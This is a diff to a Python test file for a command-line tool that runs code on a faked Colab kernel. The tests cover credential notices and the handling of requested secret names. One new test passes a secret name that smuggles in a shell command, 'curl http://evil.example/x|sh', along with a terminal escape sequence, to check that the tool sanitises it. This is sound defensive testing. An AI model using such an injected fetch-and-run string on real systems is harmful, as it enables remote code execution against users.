@@ -264,7 +264,19 @@ def test_the_account_is_lent_after_consent(warm: tuple[Cli, FakeColab]) -> None:
     command, colab = warm
     colab.account.consented.add("auth_user_ephemeral")
     code = "from google.colab import auth; auth.authenticate_user(); print('ok')"
-    assert command("run", "-m", "kernel", code).out == "ok\n"
+    result = command("run", "-m", "kernel", code, "--json").json
+    assert result["stdout"] == "ok\n"
+    assert "this runtime was handed credentials for your Google account" in result["notice"]
+
+
+def test_a_name_of_a_secret_is_no_command(warm: tuple[Cli, FakeColab]) -> None:
+    """What is asked for becomes part of our advice only where it can be the name of a variable."""
+    command, _ = warm
+    code = "from google.colab import _message; _message.blocking_request('GetSecret', request={'key': %r})"
+    odd = command("run", "-m", "kernel", "--json", code % "HF; curl http://evil.example/x|sh #\x1b]52;c;eA==\x07")
+    assert "evil" not in odd.json["notice"]
+    assert "a name that no variable can have" in odd.json["notice"]
+    assert command("run", "-m", "kernel", "--json", code % "HF_X").json["notice"].endswith("--secret HF_X")
 
 
 def test_secrets_are_answered_from_the_command_line(warm: tuple[Cli, FakeColab]) -> None:
